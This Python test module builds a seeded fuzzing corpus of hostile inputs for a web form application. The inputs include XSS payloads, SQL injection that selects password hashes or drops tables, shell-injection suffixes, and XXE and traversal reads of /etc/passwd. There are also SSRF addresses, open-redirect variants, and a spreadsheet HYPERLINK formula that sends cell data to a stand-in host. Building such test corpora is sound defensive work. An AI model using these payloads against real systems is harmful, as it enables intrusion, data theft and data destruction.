"""Texts as careless, curious and hostile people type them, by kind: made from parts and a seed, none copied.

The kinds and what each watches for are those of public collections of bad input (big-list-of-naughty-strings and
PayloadsAllTheThings, both MIT; fuzzdb, BSD). Every text here is written for this project; none of their lists is in it.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from tests.corpus.families import commands, elsewhere, identities, letters, markup, numerals
from tests.corpus.families.family import (
    ACT,
    DAYS,
    IDENTITIES,
    INJECTIONS,
    NUMBERS,
    PATHS,
    REDIRECTS,
    SCRIPTS,
    TEXTS,
    Family,
)
from tests.webapp.test_numbers import REFUSED_ALWAYS
from tests.webapp.uploads import NAMES

SEED = 20260213


@dataclass(frozen=True)
class Hostile:
    """One bad text. A lone surrogate is sent as such in JSON, as its three bytes in a form."""

    id: str
    kind: str
    value: str
    family: str = ""


def numbers() -> Iterator[str]:
    """What is no number, from the test of how numbers are read, and what other programs take for one."""
    yield from REFUSED_ALWAYS
    for digits in ("12", "1234", "999999999999999999"):
        for base in (0x660, 0x6F0, 0x966, 0x9E6, 0xE50, 0xFF10, 0x1D7CE, 0x1D7F6):  # digits of other scripts
            yield "".join(chr(base + int(digit)) for digit in digits)
    for sign in ("+", "++", "+-", "−−", "\u207b", "\u00b1"):
        yield f"{sign}7"
    yield from ("snan", "-NaN", "NaN123", "Infinity", "-Infinity", "INF", "1.#INF", "1.#QNAN", "undefined", "NULL")
    yield from ("1e2", "1E+2", "1e-2", "1e308", "1E+30000000", "-1e400", "1e1e1", "9e999999999")
    yield from ("0x1F", "0b11", "0o17", "1_000", "1__0", "017L", "1j", "1+1j", "True", "Decimal('1')", "10/3")
    for count in (19, 64, 400, 5000, 60_000):
        yield "9" * count
        yield "1." + "0" * count
        yield "1" + ".000" * count
    for blank in ("\u1680", "\u2000", "\u3000", "\u2028", "\x1f", "\u180e", "\u200b", "\ufeff"):
        yield f"1{blank}000"
    yield from ("1\n000", "1\r\n2", "7\x00", "\x007", "7\x007", "7;7", "7|7", "7 7 7", "7'", '7"', "7--", "7/*", "7#")


def texts() -> Iterator[str]:
    """Every control character, everything that turns or hides letters, and lengths around each limit."""
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"Dinas{chr(code)}Sosial"
    for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C):
        yield f"Rp{chr(code)}005.61"
        yield f"{chr(code)}laporan"
    for code in (0xAD, 0x34F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x3164, 0xFE0F):
        yield f"Ka{chr(code)}bupaten"
        yield chr(code) * 3
    for code in (0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFF, 0x10FFFF):
        yield f"a{chr(code)}b"
    for code in (0xE000, 0xF8FF, 0xF0000, 0x10FFFD, 0xE0001, 0xE0041, 0xE007F):
        yield f"a{chr(code)}b"
    for code in range(0x2000, 0x200B):
        yield f"dua{chr(code)}kata"
        yield chr(code)
    yield from surrogates()
    yield from shapes()
    for length in (200, 201, 400, 401, 2000, 2001, 20_000, 200_001, 400_000):
        yield "a" * length
        yield "é" * (length // 2)
    yield from mixtures()


def surrogates() -> Iterator[str]:
    """Halves of letters: no program can write them down."""
    for half in ("\ud800", "\udbff", "\udc00", "\udfff"):
        yield from (half, f"a{half}", f"{half}b", f"a{half}b", half * 40)


def shapes() -> Iterator[str]:
    """Letters that are more, wider or other than they seem."""
    for mark in ("\u0300", "\u0489", "\u20dd", "\u0e49", "\u0610"):
        for times in (1, 30, 150, 10_000):
            yield "a" + mark * times
    for letter in ("é", "ñ", "Å", "가", "ﬁ", "ǆ", "ﷺ", "ΐ", "Ω"):
        yield unicodedata.normalize("NFC", letter)
        yield unicodedata.normalize("NFD", letter)
        yield unicodedata.normalize("NFKC", letter)
    yield "ﷺ" * 400
    yield "ΐ" * 400  # three letters each when decomposed
    yield from ("Кабупатен", "Kаbupаten", "ΚΑΒ", "ⓀⒶⒷ", "ₖₐᵦ", "𝕂𝕒𝕓", "ᴋᴀʙ", "ｋａｂ", "K\u0331ab", "ıİ", "ßẞ", "ŉ")
    yield from ("👨‍👩‍👧‍👦", "🇮🇩", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏿" * 50, "☠️", "(╯°□°)╯", "漢字かな한글", "मराठी", "ไทย", "ಠ_ಠ", "ﷲ", "ܐܒܓ")
    yield from (
        "null",
        "None",
        "undefined",
        "true",
        "NaN",
        "0",
        "-1",
        "[]",
        "{}",
        "''",
        '""',
        "//",
        "--",
        "#",
        "?",
        "%",
    )
    yield from (
        "%00",
        "%0d%0a",
        "%u0041",
        "\\u0000",
        "\\x00",
        "\\",
        "\\\\",
        "&",
        "&amp;",
        "&#0;",
        "&#x1F;",
        "&lt;b&gt;",
    )
    yield from (
        "\r",
        "\n",
        "\r\n\r\n",
        "\t\t",
        "a\r\nb\rc\nd",
        "\n" * 3000,
        " " * 5000,
        "a" + " " * 5000 + "b",
        ".",
        "...",
    )


def mixtures() -> Iterator[str]:
    """Random letters of every plane, always the same ones."""
    chance = random.Random(SEED)
    for _ in range(60):
        planes = [(0x20, 0x2FF), (0x300, 0x36F), (0x590, 0x6FF), (0x2000, 0x206F), (0xFE00, 0xFFFF), (0x1F300, 0x1FAFF)]
        letters = [chr(chance.randint(*chance.choice(planes))) for _ in range(chance.randint(1, 60))]
        yield "".join(letters)


def scripts() -> Iterator[str]:
    """What would act if a page ever showed it as anything but text."""
    for call in (ACT, "alert(1)", f"eval('{ACT}')"):
        for opening in ("<script>", "<SCRIPT >", "<script\t>", "<scr<script>ipt>", "<script/x>", "<svg><script>"):
            yield f"{opening}{call}</script>"
    elements = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe")
    elements += ("object data=x", "marquee", "math", "a href=x", "select autofocus", "textarea autofocus", "p style=x")
    handlers = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerrawupdate")
    for place, element in enumerate(elements):
        for handler in (handlers[place % 7], handlers[(place + 2) % 7], "onerror"):
            yield f"<{element} {handler}={ACT}>"
            yield f"<{element}/{handler.upper()}='{ACT}'//"
    for ending in ('"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</option>", "</template>"):
        yield f"{ending}<img src=x onerror={ACT}>"
        yield f"{ending} onfocus={ACT} autofocus x={ending}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "\x01javascript:",
        "data:text/html,<script>",
        "vbscript:",
    ):
        yield f"{scheme}{ACT}"
        yield f'<a href="{scheme}{ACT}">x</a>'
        yield f"[x]({scheme}{ACT})"
    for entity in ("&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\x3cscript\\x3e"):
        yield f"{entity}{ACT}</script>"
    for template in ("{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% raw %%}%s"):
        yield template % ACT
    yield from (
        f"＜script＞{ACT}＜/script＞", f"<\x00script>{ACT}</script>", f"<svg><style><img src=x onerror={ACT}>",
        f"<math><mi xlink:href='javascript:{ACT}'>", "<base href=//contoh.invalid/>", "<link rel=stylesheet href=//x>",
        f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>", "<form action=//contoh.invalid><input name=q>",
        "<style>*{display:none}</style>", "<img src=//contoh.invalid/x.png>",
        f"<iframe srcdoc='<script>{ACT}</script>'>",
        f"<isindex type=image src=1 onerror={ACT}>", "<plaintext>", "<!--", "<![CDATA[", "<?xml version='1.0'?>",
        "</div>" * 50,
        f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>", "<table><tr><td>",
        "<button form=isian name=v:aktif>",
        f"\u2028{ACT}\u2029", f"';{ACT};'", f'";{ACT};"', f"`${{{ACT}}}`", f"*/{ACT}/*",
        f"</script><script>{ACT}</script>",
    )  # fmt: skip


def injections() -> Iterator[str]:
    """Commands for the programs behind a page: databases, templates, shells, logs, headers, spreadsheets."""
    for quote in ("'", '"', "`", "')", '")', "'))", "\\'", "%27"):
        for rest in (
            " OR 1=1--",
            " UNION SELECT password_hash FROM users--",
            "; DROP TABLE users;--",
            " AND 1=(SELECT 1)#",
        ):
            yield f"{quote}{rest}"
    yield from ("%' OR '%'='", "_%_", "%%%", "*", "MATCH 'a*'", "\\%", "randomblob(1e9)", "char(0)", "1 GLOB 1", "\x1a")
    opened = ("{{%s}}", "{%% %s %%}", "${%s}", "#{%s}", "<%%=%s%%>", "{%s}", "%%(%s)s", "@(%s)", "*{%s}", "[[%s]]")
    for template in opened:
        for inner in ("7*7", "config", "self.__class__", "0.__class__.__mro__", "request.application.__globals__"):
            yield template % inner
    yield from (
        "%s%s%s%n",
        "%x" * 20,
        "%1$s",
        "%999999d",
        "{0.__class__}",
        "{:>999999999}",
        "{!r}",
        "{",
        "}",
        "%",
        "%(a)s",
    )
    for ends in ("\r\n", "\n", "%0d%0a", "\u560d\u560a", "\r", "\x85", "\u2028", "\\r\\n"):
        yield f"x{ends}Set-Cookie: a=b"
        yield f"x{ends}2026-02-13 04:00:00 INFO palsu"
    for first in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "＠", "|", '"=', "'=", ";=", ",="):
        yield f"{first}1+1"
        yield f'{first}HYPERLINK("https://contoh.invalid/"&A1;"x")'
        yield f"{first}cmd|' /C calc'!A0"
    for shell in (
        "; id",
        "| id",
        "`id`",
        "$(id)",
        "&& id",
        "\nid\n",
        "> /tmp/x",
        "< /etc/passwd",
        "${IFS}id",
        "$((1))",
    ):
        yield f"laporan{shell}"
    yield from ("*)(uid=*", "' or '1'='1", "//*[1]", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")
    yield from (
        "!!python/object/apply:os.system [id]",
        "&a [*a,*a]",
        "__proto__",
        "constructor",
        "__class__",
        "; --",
        "\\N",
    )
    yield from (
        "-rf",
        "--help",
        "@/etc/passwd",
        "file:///etc/passwd",
        "gopher://127.0.0.1:1/",
        "http://169.254.169.254/",
    )


def paths() -> Iterator[str]:
    """Names that would lead elsewhere, or that no disk can hold."""
    yield from NAMES
    for up in (
        "../",
        "..\\",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%2f",
        "..%5c",
        "..;/",
        "....//",
        "..\u2215",
        "\uff0e\uff0e/",
        "%c0%ae/",
    ):
        for depth in (1, 4, 12):
            yield f"{up * depth}etc/passwd"
        yield f"bukti/{up * 3}paritrana.sqlite3"
    for device in ("CON", "PRN", "AUX", "NUL", "COM1", "COM9", "LPT1", "CLOCK$", "CONIN$"):
        yield device
        yield f"{device}.pdf"
    for root in (
        "/",
        "//",
        "///",
        "\\\\server\\share\\",
        "C:\\",
        "C:",
        "file://",
        "~/",
        "$HOME/",
        "\\\\?\\C:\\",
        "/proc/self/",
        "/dev/",
    ):
        yield f"{root}rahasia.pdf"
    for length in (255, 256, 1000, 1001, 4096):
        yield "a" * length
        yield "é" * (length // 2) + ".pdf"
    for ending in (
        ".pdf.exe",
        ".pdf ",
        ".pdf.",
        ".pdf\x00.exe",
        ".PDF;.html",
        ".pdf:stream",
        ".pdf/",
        ".svg",
        ".php%00.pdf",
        ".lnk",
    ):
        yield f"laporan{ending}"
    yield from (
        ".",
        "..",
        "...",
        " ",
        "-",
        "--",
        "*",
        "?",
        "|",
        "<",
        ">",
        '"',
        ":",
        "\x7f.pdf",
        "a\tb.pdf",
        "a\nb.pdf",
        "\u202efdp.exe",
    )


def redirects() -> Iterator[str]:
    """Places elsewhere, written so that a careless check takes them for pages of ours."""
    host = "contoh.invalid"
    starts = (
        "http://",
        "https://",
        "//",
        "///",
        "////",
        "\\\\",
        "/\\",
        "\\/",
        "/\t/",
        "/\n/",
        "/\r/",
        "/%09/",
        "/%2f",
        "/%5c",
    )
    starts += (
        "http:",
        "https:",
        "http:/",
        "https:///",
        "hTTps://",
        "\x00//",
        "\x01//",
        " //",
        "\t//",
        "\u00a0//",
        "/./\\",
        "/.//",
    )
    starts += (
        "http://localhost@",
        "http://localhost:8000@",
        "//localhost@",
        "//localhost%40",
        "//localhost\\@",
        "ftp://",
        "//。",
    )
    for start in starts:
        yield f"{start}{host}"
        yield f"{start}{host}/isian"
    for text in (
        "javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "mailto:a@b",
        "//",
        "/",
        "///",
        "http://",
        "..//x",
    ):
        yield text
        yield f"/{text}"
    yield from (
        "/isian\r\nX: y",
        "/isian\x00",
        "/isian\u2028",
        "/" + "a" * 60_000,
        "?next=//x",
        "#//x",
        "/isian#" + "x" * 99,
        "/é",
    )
    yield from (
        "/isian/../../x",
        "/keluar",
        "/masuk?next=//contoh.invalid",
        "/isian/" + "9" * 400,
        "/%",
        "/%zz",
        "/%ff",
        "/[",
        "//[",
    )


FAMILIES = (
    Family(NUMBERS, numbers),
    Family(NUMBERS, numerals.indonesian_numbers),
    Family(NUMBERS, numerals.foreign_numbers),
    Family(NUMBERS, numerals.digits_of_other_scripts),
    Family(NUMBERS, numerals.other_numerals),
    Family(NUMBERS, numerals.at_the_edge),
    Family(NUMBERS, numerals.exponents),
    Family(NUMBERS, numerals.signs),
    Family(NUMBERS, numerals.hidden_in_numbers),
    Family(NUMBERS, numerals.words_for_numbers),
    Family(TEXTS, texts),
    Family(TEXTS, letters.unseen_letters),
    Family(TEXTS, letters.turned_letters),
    Family(TEXTS, letters.no_letters),
    Family(TEXTS, letters.blanks),
    Family(TEXTS, letters.normalised_letters),
    Family(TEXTS, letters.stacked_marks),
    Family(TEXTS, letters.twin_letters),
    Family(TEXTS, letters.pictures),
    Family(TEXTS, letters.broken_halves),
    Family(TEXTS, letters.lengths),
    Family(TEXTS, letters.line_ends),
    Family(TEXTS, letters.machine_words),
    Family(TEXTS, letters.random_letters),
    Family(SCRIPTS, scripts),
    Family(SCRIPTS, markup.elements_that_act),
    Family(SCRIPTS, markup.handlers_that_act),
    Family(SCRIPTS, markup.closings),
    Family(SCRIPTS, markup.schemes),
    Family(SCRIPTS, markup.drawings),
    Family(SCRIPTS, markup.styles),
    Family(SCRIPTS, markup.encodings),
    Family(SCRIPTS, markup.calls),
    Family(SCRIPTS, markup.broken_markup),
    Family(SCRIPTS, markup.several_places),
    Family(INJECTIONS, injections),
    Family(INJECTIONS, commands.database_commands),
    Family(INJECTIONS, commands.patterns),
    Family(INJECTIONS, commands.template_commands),
    Family(INJECTIONS, commands.shell_commands),
    Family(INJECTIONS, commands.format_commands),
    Family(INJECTIONS, commands.directory_commands),
    Family(INJECTIONS, commands.spreadsheet_commands),
    Family(INJECTIONS, commands.lines_of_others),
    Family(INJECTIONS, commands.objects_of_others),
    Family(PATHS, paths),
    Family(PATHS, elsewhere.ways_up),
    Family(PATHS, elsewhere.names_of_systems),
    Family(REDIRECTS, redirects),
    Family(REDIRECTS, elsewhere.ways_away),
    Family(REDIRECTS, elsewhere.broken_addresses),
    Family(PATHS, elsewhere.odd_ids),
    Family(DAYS, identities.days),
    Family(DAYS, identities.machine_days),
    Family(DAYS, identities.moments),
    Family(IDENTITIES, identities.identity_numbers),
    Family(IDENTITIES, identities.telephones),
    Family(IDENTITIES, identities.mail_addresses),
    Family(IDENTITIES, identities.names_of_people),
    Family(IDENTITIES, identities.logins),
)
# Of families that are products of parts so many each, evenly spread, so that none crowds out the others.
MOST = 64
WHOLE_FAMILIES = frozenset({"numbers", "texts", "scripts", "injections", "paths", "redirects"})


def members(family: Family) -> list[str]:
    """Its texts, each once."""
    found = list(dict.fromkeys(family.make()))
    if family.name in WHOLE_FAMILIES or len(found) <= MOST:
        return found
    return [found[place * len(found) // MOST] for place in range(MOST)]


@cache
def hostile_texts() -> tuple[Hostile, ...]:
    """All of them, each once, the families in their order."""
    found: dict[str, Hostile] = {}
    for family in FAMILIES:
        for value in members(family):
            found.setdefault(value, Hostile(f"{family.kind}-{len(found):04d}", family.kind, value, family.name))
    return tuple(found.values())


def every(count: int) -> tuple[Hostile, ...]:
    """So many of them, evenly spread."""
    step = max(len(hostile_texts()) // count, 1)
    return hostile_texts()[::step]
